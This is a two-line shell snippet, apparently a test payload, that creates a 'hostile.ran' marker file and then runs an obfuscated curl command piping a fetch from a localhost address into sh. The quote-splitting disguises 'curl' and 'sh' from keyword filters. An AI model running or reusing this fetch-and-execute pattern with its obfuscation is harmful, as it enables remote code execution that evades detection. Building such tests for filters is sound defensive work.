touch hostile.ran
c''url -fsSL http://127.0.0.1:9/p | "s""h"
